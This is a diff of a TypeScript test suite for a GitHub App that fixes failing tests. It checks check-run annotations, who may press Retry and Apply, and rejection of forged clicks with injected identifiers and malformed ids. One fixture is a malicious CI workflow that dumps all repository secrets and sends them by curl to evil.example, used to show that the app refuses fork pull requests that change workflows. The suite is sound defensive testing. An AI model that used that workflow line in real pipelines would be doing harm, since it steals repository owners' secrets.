@@ -25,8 +25,12 @@ const PYTEST = 'test:\n  env:\n    PYTEST_DISABLE_PLUGIN_AUTOLOAD: "1"\n';
 const CART_BROKEN = "def total(prices, discount):\n    subtotal = sum(prices)\n    return subtotal + discount\n";
 const CART_OK = "def total(prices, discount):\n    subtotal = sum(prices)\n    return subtotal - discount\n";
 const CART_PR = `${CART_BROKEN}\n\ndef bulk_total(orders):\n    return [total(p, d) for p, d in orders]\n`;
-const TESTS = "from shop.cart import total\n\n\ndef test_total_applies_discount():\n    assert total([10, 20], 5) == 25\n\n\ndef test_total_without_discount():\n    assert total([1, 2], 0) == 3\n";
-const ISSUE = { title: "Discount is added instead of subtracted", body: "total([10, 20], 5) gives 35, it should be 25." };
+const TESTS =
+  "from shop.cart import total\n\n\ndef test_total_applies_discount():\n    assert total([10, 20], 5) == 25\n\n\ndef test_total_without_discount():\n    assert total([1, 2], 0) == 3\n";
+const ISSUE = {
+  title: "Discount is added instead of subtracted",
+  body: "total([10, 20], 5) gives 35, it should be 25.",
+};
 
 let root: string;
 let remote: string;
@@ -36,8 +40,10 @@ let store: JobStore;
 const network = networkGuard();
 
 const sh = (dir: string, ...args: string[]) => execFileSync("git", ["-C", dir, ...args], { encoding: "utf8" }).trim();
-const remoteSha = (ref: string) => execFileSync("git", ["--git-dir", remote, "rev-parse", ref], { encoding: "utf8" }).trim();
-const remoteFile = (ref: string, path: string) => execFileSync("git", ["--git-dir", remote, "show", `${ref}:${path}`], { encoding: "utf8" });
+const remoteSha = (ref: string) =>
+  execFileSync("git", ["--git-dir", remote, "rev-parse", ref], { encoding: "utf8" }).trim();
+const remoteFile = (ref: string, path: string) =>
+  execFileSync("git", ["--git-dir", remote, "show", `${ref}:${path}`], { encoding: "utf8" });
 const checkRuns = (): FakeCheckRun[] => state.ownCheckRuns ?? [];
 
 beforeEach(async () => {
@@ -55,17 +61,42 @@ afterEach(() => {
 
 async function startApp() {
   let pool: WorkerPool | undefined;
-  const probot = new Probot({ appId: 1, privateKey: testPrivateKey(), secret: "s", logLevel: "fatal", Octokit: ProbotOctokit.defaults({ retry: { enabled: false }, throttle: { enabled: false } }) });
-  await probot.load(createAutogenApp({ store, appId: 1, cacheRoot: join(root, "cache"), scrub: secretScrubber([testPrivateKey()]), concurrency: 1, perInstallation: 1, statusThrottleMs: 60_000, pollMs: 40, onReady: (p) => (pool = p) }));
+  const probot = new Probot({
+    appId: 1,
+    privateKey: testPrivateKey(),
+    secret: "s",
+    logLevel: "fatal",
+    Octokit: ProbotOctokit.defaults({ retry: { enabled: false }, throttle: { enabled: false } }),
+  });
+  await probot.load(
+    createAutogenApp({
+      store,
+      appId: 1,
+      cacheRoot: join(root, "cache"),
+      scrub: secretScrubber([testPrivateKey()]),
+      concurrency: 1,
+      perInstallation: 1,
+      statusThrottleMs: 60_000,
+      pollMs: 40,
+      onReady: (p) => (pool = p),
+    }),
+  );
   return {
     probot,
     idle: async () => {
-      while (pool && ((await store.queueDepth()).queued > 0 || (await store.queueDepth()).running > 0)) await pool.idle().then(() => new Promise((r) => setTimeout(r, 20)));
+      while (pool && ((await store.queueDepth()).queued > 0 || (await store.queueDepth()).running > 0))
+        await pool.idle().then(() => new Promise((r) => setTimeout(r, 20)));
     },
   };
 }
 
-const repo = (payload: Record<string, unknown>) => ({ ...(payload.repository as object), name: "shop", full_name: "octo-org/shop", default_branch: "main", owner: { ...(payload.repository as { owner: object }).owner, login: "octo-org" } });
+const repo = (payload: Record<string, unknown>) => ({
+  ...(payload.repository as object),
+  name: "shop",
+  full_name: "octo-org/shop",
+  default_branch: "main",
+  owner: { ...(payload.repository as { owner: object }).owner, login: "octo-org" },
+});
 
 function labeled() {
   const payload = webhookExample("issues", "labeled") as Record<string, unknown> & { issue: Record<string, unknown> };
@@ -78,10 +109,24 @@ function labeled() {
 }
 
 /** A click on one of the check run's buttons (the real example payload, pointed at `run`). */
-function click(run: { id: number; head_sha: string; external_id: string }, identifier: string, sender = "maintainer", appId = 1) {
-  const payload = webhookExample("check_run", "requested_action") as Record<string, unknown> & { check_run: Record<string, unknown> };
+function click(
+  run: { id: number; head_sha: string; external_id: string },
+  identifier: string,
+  sender = "maintainer",
+  appId = 1,
+) {
+  const payload = webhookExample("check_run", "requested_action") as Record<string, unknown> & {
+    check_run: Record<string, unknown>;
+  };
   payload.repository = repo(payload);
-  payload.check_run = { ...payload.check_run, id: run.id, name: "autogen", head_sha: run.head_sha, external_id: run.external_id, app: { ...(payload.check_run.app as object), id: appId } };
+  payload.check_run = {
+    ...payload.check_run,
+    id: run.id,
+    name: "autogen",
+    head_sha: run.head_sha,
+    external_id: run.external_id,
+    app: { ...(payload.check_run.app as object), id: appId },
+  };
   payload.requested_action = { identifier };
   payload.sender = { ...(payload.sender as object), login: sender, id: 8, type: "User" };
   payload.installation = { id: 99, node_id: "MDIz" };
@@ -89,17 +134,35 @@ function click(run: { id: number; head_sha: string; external_id: string }, ident
 }
 
 async function issueRepository() {
-  const work = await gitRepo({ "shop/__init__.py": "", "shop/cart.py": CART_BROKEN, "tests/test_cart.py": TESTS, ".github/autogen.yml": PYTEST });
+  const work = await gitRepo({
+    "shop/__init__.py": "",
+    "shop/cart.py": CART_BROKEN,
+    "tests/test_cart.py": TESTS,
+    ".github/autogen.yml": PYTEST,
+  });
   remote = join(root, "remote.git");
   execFileSync("git", ["clone", "--quiet", "--bare", work, remote]);
-  state = { issue: { ...ISSUE }, comments: [], pulls: [], permissions: { maintainer: "write", visitor: "read" }, files: { ".github/autogen.yml": PYTEST }, defaultBranch: "main", cloneUrl: remote };
+  state = {
+    issue: { ...ISSUE },
+    comments: [],
+    pulls: [],
+    permissions: { maintainer: "write", visitor: "read" },
+    files: { ".github/autogen.yml": PYTEST },
+    defaultBranch: "main",
+    cloneUrl: remote,
+  };
   github = fakeGitHub(state);
 }
 
 /** main with a correct cart, and pull request #7 that breaks it (for a fork: only as refs/pull/7/head). */
 async function redPullRequest(fork: boolean, extra: Record<string, string> = {}) {
   const config = `triggers:\n  ciFailure: auto\n${PYTEST}`;
-  const work = await gitRepo({ "shop/__init__.py": "", "shop/cart.py": CART_OK, "tests/test_cart.py": TESTS, ".github/autogen.yml": config });
+  const work = await gitRepo({
+    "shop/__init__.py": "",
+    "shop/cart.py": CART_OK,
+    "tests/test_cart.py": TESTS,
+    ".github/autogen.yml": config,
+  });
   remote = join(root, "remote.git");
   execFileSync("git", ["clone", "--quiet", "--bare", work, remote]);
   const baseSha = sh(work, "rev-parse", "HEAD");
@@ -110,7 +173,18 @@ async function redPullRequest(fork: boolean, extra: Record<string, string> = {})
     await writeFile(join(work, path), text);
   }
   sh(work, "add", "--all");
-  sh(work, "-c", "user.name=Dev", "-c", "user.email=dev@example.invalid", "commit", "--quiet", "--all", "--message", "Add bulk totals");
+  sh(
+    work,
+    "-c",
+    "user.name=Dev",
+    "-c",
+    "user.email=dev@example.invalid",
+    "commit",
+    "--quiet",
+    "--all",
+    "--message",
+    "Add bulk totals",
+  );
   const headSha = sh(work, "rev-parse", "HEAD");
   sh(work, "push", "--quiet", remote, fork ? "HEAD:refs/pull/7/head" : "feature/bulk");
   state = {
@@ -121,26 +195,66 @@ async function redPullRequest(fork: boolean, extra: Record<string, string> = {})
     files: { ".github/autogen.yml": config },
     defaultBranch: "main",
     cloneUrl: remote,
-    prs: { 7: { title: "Bulk totals", body: "Adds bulk_total.", state: "open", headRef: "feature/bulk", headSha, baseRef: "main", baseSha, fork } },
+    prs: {
+      7: {
+        title: "Bulk totals",
+        body: "Adds bulk_total.",
+        state: "open",
+        headRef: "feature/bulk",
+        headSha,
+        baseRef: "main",
+        baseSha,
+        fork,
+      },
+    },
     commitPulls: { [headSha]: [7] },
     // No verification workflow installed: verified in the local sandbox.
     actions: fakeActions([]),
   };
   github = fakeGitHub(state);
-  const red = await ciRun(state.actions as NonNullable<FakeGitHubState["actions"]>, remote, { sha: headSha, branch: "feature/bulk", number: 7, fork });
-  const payload = webhookExample("workflow_run", "completed") as Record<string, unknown> & { workflow_run: Record<string, unknown>; workflow: Record<string, unknown> };
+  const red = await ciRun(state.actions as NonNullable<FakeGitHubState["actions"]>, remote, {
+    sha: headSha,
+    branch: "feature/bulk",
+    number: 7,
+    fork,
+  });
+  const payload = webhookExample("workflow_run", "completed") as Record<string, unknown> & {
+    workflow_run: Record<string, unknown>;
+    workflow: Record<string, unknown>;
+  };
   payload.repository = repo(payload);
   payload.workflow = { ...payload.workflow, path: ".github/workflows/ci.yml" };
-  payload.workflow_run = { ...payload.workflow_run, id: red.id, path: ".github/workflows/ci.yml", event: "pull_request", status: "completed", conclusion: "failure", head_sha: headSha, head_branch: "feature/bulk", pull_requests: red.pull_requests.map((p) => ({ number: p.number, head: { ref: "feature/bulk", sha: headSha, repo: {} }, base: { ref: "main", sha: "0", repo: {} } })) };
+  payload.workflow_run = {
+    ...payload.workflow_run,
+    id: red.id,
+    path: ".github/workflows/ci.yml",
+    event: "pull_request",
+    status: "completed",
+    conclusion: "failure",
+    head_sha: headSha,
+    head_branch: "feature/bulk",
+    pull_requests: red.pull_requests.map((p) => ({
+      number: p.number,
+      head: { ref: "feature/bulk", sha: headSha, repo: {} },
+      base: { ref: "main", sha: "0", repo: {} },
+    })),
+  };
   payload.sender = { ...(payload.sender as object), login: "maintainer", id: 7, type: "User" };
   payload.installation = { id: 99, node_id: "MDIz" };
   return { headSha, workflowRun: payload };
 }
 
 /** What GitHub was asked to change since request `since` (minting an installation token changes nothing). */
-const writesSince = (since: number) => github.requests.slice(since).filter((r) => r.method !== "GET" && r.operation !== "apps/create-installation-access-token").map((r) => `${r.method} ${r.path}`);
+const writesSince = (since: number) =>
+  github.requests
+    .slice(since)
+    .filter((r) => r.method !== "GET" && r.operation !== "apps/create-installation-access-token")
+    .map((r) => `${r.method} ${r.path}`);
 
-const operationIndex = (operation: string, predicate: (body: Record<string, unknown> | undefined) => boolean = () => true) => github.requests.findIndex((r) => r.operation === operation && predicate(r.body));
+const operationIndex = (
+  operation: string,
+  predicate: (body: Record<string, unknown> | undefined) => boolean = () => true,
+) => github.requests.findIndex((r) => r.operation === operation && predicate(r.body));
 
 describe("the autogen check run", { timeout: 300_000 }, () => {
   it("an issue's fix: in progress on the bot's commit before the PR opens, then success with the report and annotations; Retry by a reader does nothing, by a maintainer queues the job again", async () => {
@@ -153,14 +267,23 @@ describe("the autogen check run", { timeout: 300_000 }, () => {
     expect(job?.state).toBe("done");
     expect(checkRuns()).toHaveLength(1);
     const run = checkRuns()[0] as FakeCheckRun;
-    expect(run).toMatchObject({ name: "autogen", head_sha: remoteSha("autogen/issue-42"), external_id: String(job?.id), status: "completed", conclusion: "success" });
+    expect(run).toMatchObject({
+      name: "autogen",
+      head_sha: remoteSha("autogen/issue-42"),
+      external_id: String(job?.id),
+      status: "completed",
+      conclusion: "success",
+    });
     // Created in progress once the commit existed, before the pull request; completed at the end.
     expect(run.history[0]).toBe("in_progress");
     expect(run.history.at(-1)).toBe("completed");
     const created = operationIndex("checks/create");
     expect(created).toBeGreaterThan(-1);
     expect(created).toBeLessThan(operationIndex("pulls/create"));
-    expect(github.calls("checks/create")[0]?.body).toMatchObject({ status: "in_progress", head_sha: remoteSha("autogen/issue-42") });
+    expect(github.calls("checks/create")[0]?.body).toMatchObject({
+      status: "in_progress",
+      head_sha: remoteSha("autogen/issue-42"),
+    });
     // The summary: the checklist, the final word and the report.
     // Model-free: a template fix on the tests' word only, said so in the title.
     expect(run.output.title).toMatch(/^Passes the tests; not reviewed: /);
@@ -170,9 +293,14 @@ describe("the autogen check run", { timeout: 300_000 }, () => {
     expect(run.output.summary).toContain("Regression gate (full suite)");
     // On the changed line (the new side: this commit holds the fix) and on the failure it explains.
     expect(remoteFile("autogen/issue-42", "shop/cart.py").split("\n")[2]).toBe("    return subtotal - discount");
-    expect(run.annotations).toContainEqual(expect.objectContaining({ path: "shop/cart.py", start_line: 3, end_line: 3, annotation_level: "notice" }));
+    expect(run.annotations).toContainEqual(
+      expect.objectContaining({ path: "shop/cart.py", start_line: 3, end_line: 3, annotation_level: "notice" }),
+    );
     const failure = run.annotations.find((a) => a.annotation_level === "failure");
-    expect(failure).toMatchObject({ path: "tests/test_cart.py", title: "Failing: tests/test_cart.py::test_total_applies_discount" });
+    expect(failure).toMatchObject({
+      path: "tests/test_cart.py",
+      title: "Failing: tests/test_cart.py::test_total_applies_discount",
+    });
     expect(failure?.message).toContain("autogen's change makes it pass again");
     expect(run.actions).toEqual([{ label: "Retry", description: "Run this autogen job again", identifier: "retry" }]);
 
@@ -180,12 +308,19 @@ describe("the autogen check run", { timeout: 300_000 }, () => {
     const ref = { id: run.id, head_sha: run.head_sha, external_id: run.external_id };
     await probot.receive({ id: "click-reader", name: "check_run", payload: click(ref, "retry", "visitor") } as never);
     expect(await store.countJobs("octo-org", "shop", 42, "fix")).toBe(1);
-    expect(github.calls("repos/get-collaborator-permission-level").at(-1)?.path).toBe("/repos/octo-org/shop/collaborators/visitor/permission");
+    expect(github.calls("repos/get-collaborator-permission-level").at(-1)?.path).toBe(
+      "/repos/octo-org/shop/collaborators/visitor/permission",
+    );
     // A maintainer's: the same kind of job again, from that delivery, with the issue as it is now.
     await probot.receive({ id: "click-maintainer", name: "check_run", payload: click(ref, "retry") } as never);
     const again = await store.latest("octo-org", "shop", 42);
     expect(again?.id).not.toBe(job?.id);
-    expect(again).toMatchObject({ kind: "fix", deliveryId: "click-maintainer", requester: "maintainer", snapshot: ISSUE });
+    expect(again).toMatchObject({
+      kind: "fix",
+      deliveryId: "click-maintainer",
+      requester: "maintainer",
+      snapshot: ISSUE,
+    });
     // Redelivered: nothing more.
     await probot.receive({ id: "click-maintainer", name: "check_run", payload: click(ref, "retry") } as never);
     expect(await store.countJobs("octo-org", "shop", 42, "fix")).toBe(2);
@@ -201,8 +336,16 @@ describe("the autogen check run", { timeout: 300_000 }, () => {
     const run = checkRuns()[0] as FakeCheckRun;
     const before = github.requests.length;
     // Another App's run with our job's external id, and one of ours whose id is not the job's run.
-    await probot.receive({ id: "click-other-app", name: "check_run", payload: click({ id: run.id, head_sha: run.head_sha, external_id: run.external_id }, "retry", "maintainer", 4242) } as never);
-    await probot.receive({ id: "click-other-run", name: "check_run", payload: click({ id: run.id + 1, head_sha: run.head_sha, external_id: run.external_id }, "retry") } as never);
+    await probot.receive({
+      id: "click-other-app",
+      name: "check_run",
+      payload: click({ id: run.id, head_sha: run.head_sha, external_id: run.external_id }, "retry", "maintainer", 4242),
+    } as never);
+    await probot.receive({
+      id: "click-other-run",
+      name: "check_run",
+      payload: click({ id: run.id + 1, head_sha: run.head_sha, external_id: run.external_id }, "retry"),
+    } as never);
     expect(await store.countJobs("octo-org", "shop", 42, "fix")).toBe(1);
     expect(github.requests.slice(before)).toEqual([]);
   });
@@ -233,9 +376,20 @@ describe("the autogen check run", { timeout: 300_000 }, () => {
     expect(run.output.summary).toContain("✅ Attribution: 1 caused by the change");
     // The old side: this commit is the one the fix applies to.
     expect(remoteFile(headSha, "shop/cart.py").split("\n")[2]).toBe("    return subtotal + discount");
-    expect(run.annotations).toContainEqual(expect.objectContaining({ path: "shop/cart.py", start_line: 3, end_line: 3, annotation_level: "notice", title: "autogen's fix changes these lines" }));
+    expect(run.annotations).toContainEqual(
+      expect.objectContaining({
+        path: "shop/cart.py",
+        start_line: 3,
+        end_line: 3,
+        annotation_level: "notice",
+        title: "autogen's fix changes these lines",
+      }),
+    );
     const failure = run.annotations.find((a) => a.annotation_level === "failure");
-    expect(failure).toMatchObject({ path: "tests/test_cart.py", title: "Broken by this pull request: tests/test_cart.py::test_total_applies_discount" });
+    expect(failure).toMatchObject({
+      path: "tests/test_cart.py",
+      title: "Broken by this pull request: tests/test_cart.py::test_total_applies_discount",
+    });
     expect(failure?.start_line).toBe(5);
     expect(run.actions.map((a) => a.identifier)).toEqual(["retry"]);
   });
@@ -252,7 +406,11 @@ describe("the autogen check run", { timeout: 300_000 }, () => {
     expect(state.pulls).toEqual([]);
     const ref = { id: run.id, head_sha: run.head_sha, external_id: run.external_id };
 
-    await probot.receive({ id: "apply-reader", name: "check_run", payload: click(ref, "apply", "contributor") } as never);
+    await probot.receive({
+      id: "apply-reader",
+      name: "check_run",
+      payload: click(ref, "apply", "contributor"),
+    } as never);
     expect(state.pulls).toEqual([]);
 
     await probot.receive({ id: "apply-1", name: "check_run", payload: click(ref, "apply") } as never);
@@ -297,7 +455,11 @@ describe("the autogen check run", { timeout: 300_000 }, () => {
       await probot.receive({ id: `forged-${++n}`, name: "check_run", payload } as never);
       return writesSince(before);
     };
-    const clickWith = (change: (p: Record<string, unknown> & { check_run: Record<string, unknown> }) => void, identifier = "apply", sender = "maintainer") => {
+    const clickWith = (
+      change: (p: Record<string, unknown> & { check_run: Record<string, unknown> }) => void,
+      identifier = "apply",
+      sender = "maintainer",
+    ) => {
       const payload = click(ref, identifier, sender);
       change(payload);
       return payload;
@@ -308,25 +470,65 @@ describe("the autogen check run", { timeout: 300_000 }, () => {
       ["another check run name", clickWith((p) => (p.check_run.name = "autogen-ci"))],
       ["another check run of ours", click({ ...ref, id: ref.id + 1 }, "apply")],
       ["another commit", click({ ...ref, head_sha: "f".repeat(40) }, "apply")],
-      ["the click from another repository", clickWith((p) => (p.repository = { ...(p.repository as object), name: "other", full_name: "octo-org/other" }))],
-      ["the click from another owner", clickWith((p) => (p.repository = { ...(p.repository as object), full_name: "evil/shop", owner: { ...(p.repository as { owner: object }).owner, login: "evil" } }))],
+      [
+        "the click from another repository",
+        clickWith((p) => (p.repository = { ...(p.repository as object), name: "other", full_name: "octo-org/other" })),
+      ],
+      [
+        "the click from another owner",
+        clickWith(
+          (p) =>
+            (p.repository = {
+              ...(p.repository as object),
+              full_name: "evil/shop",
+              owner: { ...(p.repository as { owner: object }).owner, login: "evil" },
+            }),
+        ),
+      ],
       ["the click from another installation", clickWith((p) => (p.installation = { id: 100, node_id: "MDIz" }))],
       ["the click with no installation", clickWith((p) => delete p.installation)],
-      ["an external id naming another repository's job", click({ ...ref, external_id: String(copied.job.id) }, "apply")],
-      ...["", "abc", ` ${ref.external_id}`, `${ref.external_id} `, `${ref.external_id}/../1`, `0x${Number(ref.external_id).toString(16)}`, `${ref.external_id}.0`, "-1", "1e3", "9".repeat(13), "999999"].map((id): [string, Record<string, unknown>] => [`external id ${JSON.stringify(id)}`, click({ ...ref, external_id: id }, "apply")]),
+      [
+        "an external id naming another repository's job",
+        click({ ...ref, external_id: String(copied.job.id) }, "apply"),
+      ],
+      ...[
+        "",
+        "abc",
+        ` ${ref.external_id}`,
+        `${ref.external_id} `,
+        `${ref.external_id}/../1`,
+        `0x${Number(ref.external_id).toString(16)}`,
+        `${ref.external_id}.0`,
+        "-1",
+        "1e3",
+        "9".repeat(13),
+        "999999",
+      ].map((id): [string, Record<string, unknown>] => [
+        `external id ${JSON.stringify(id)}`,
+        click({ ...ref, external_id: id }, "apply"),
+      ]),
       ["a null external id", clickWith((p) => (p.check_run.external_id = null))],
-      ...["Apply", "apply ", "apply\n", "merge", "", "retry;apply", "__proto__", "constructor"].map((id): [string, Record<string, unknown>] => [`identifier ${JSON.stringify(id)}`, click(ref, id)]),
+      ...["Apply", "apply ", "apply\n", "merge", "", "retry;apply", "__proto__", "constructor"].map(
+        (id): [string, Record<string, unknown>] => [`identifier ${JSON.stringify(id)}`, click(ref, id)],
+      ),
       ["no requested action", clickWith((p) => delete p.requested_action)],
       ["Apply fix by a reader", click(ref, "apply", "contributor")],
       ["Apply fix by a stranger", click(ref, "apply", "nobody")],
       ["Retry by a reader", click(ref, "retry", "contributor")],
-      ["Apply fix by a bot with write access", clickWith((p) => (p.sender = { ...(p.sender as object), login: "maintainer", type: "Bot" }))],
+      [
+        "Apply fix by a bot with write access",
+        clickWith((p) => (p.sender = { ...(p.sender as object), login: "maintainer", type: "Bot" })),
+      ],
     ];
     for (const [what, payload] of attacks) expect(await forged(payload), what).toEqual([]);
     expect(state.pulls).toEqual([]);
     expect(await store.countJobs("octo-org", "shop", 7, "ci")).toBe(jobsBefore);
     const branch = `autogen/fix-7-${headSha.slice(0, 7)}`;
-    expect(execFileSync("git", ["--git-dir", remote, "for-each-ref", "--format=%(refname)", `refs/heads/${branch}`], { encoding: "utf8" })).toBe("");
+    expect(
+      execFileSync("git", ["--git-dir", remote, "for-each-ref", "--format=%(refname)", `refs/heads/${branch}`], {
+        encoding: "utf8",
+      }),
+    ).toBe("");
 
     // The pull request's head moved since the fix was found: refused, nothing written.
     const pr = state.prs?.[7];
@@ -347,7 +549,8 @@ describe("the autogen check run", { timeout: 300_000 }, () => {
   });
 
   it("Apply fix on a fork whose pull request changes its workflows: refused, nothing written (on a branch of this repository they would run with its secrets)", async () => {
-    const exfiltrate = "on: push\njobs:\n  steal:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo '${{ toJSON(secrets) }}' | curl -d @- https://evil.example/\n";
+    const exfiltrate =
+      "on: push\njobs:\n  steal:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo '${{ toJSON(secrets) }}' | curl -d @- https://evil.example/\n";
     const { headSha, workflowRun } = await redPullRequest(true, { ".github/workflows/ci.yml": exfiltrate });
     const { probot, idle } = await startApp();
     await probot.receive({ id: "red-fork-workflows", name: "workflow_run", payload: workflowRun } as never);
@@ -355,9 +558,19 @@ describe("the autogen check run", { timeout: 300_000 }, () => {
     const run = checkRuns()[0] as FakeCheckRun;
     expect(run.actions.map((a) => a.identifier)).toEqual(["retry", "apply"]);
     const before = github.requests.length;
-    await probot.receive({ id: "apply-workflows", name: "check_run", payload: click({ id: run.id, head_sha: run.head_sha, external_id: run.external_id }, "apply") } as never);
+    await probot.receive({
+      id: "apply-workflows",
+      name: "check_run",
+      payload: click({ id: run.id, head_sha: run.head_sha, external_id: run.external_id }, "apply"),
+    } as never);
     expect(writesSince(before)).toEqual([]);
     expect(state.pulls).toEqual([]);
-    expect(execFileSync("git", ["--git-dir", remote, "for-each-ref", "--format=%(refname)", `refs/heads/autogen/fix-7-${headSha.slice(0, 7)}`], { encoding: "utf8" })).toBe("");
+    expect(
+      execFileSync(
+        "git",
+        ["--git-dir", remote, "for-each-ref", "--format=%(refname)", `refs/heads/autogen/fix-7-${headSha.slice(0, 7)}`],
+        { encoding: "utf8" },
+      ),
+    ).toBe("");
   });
 });
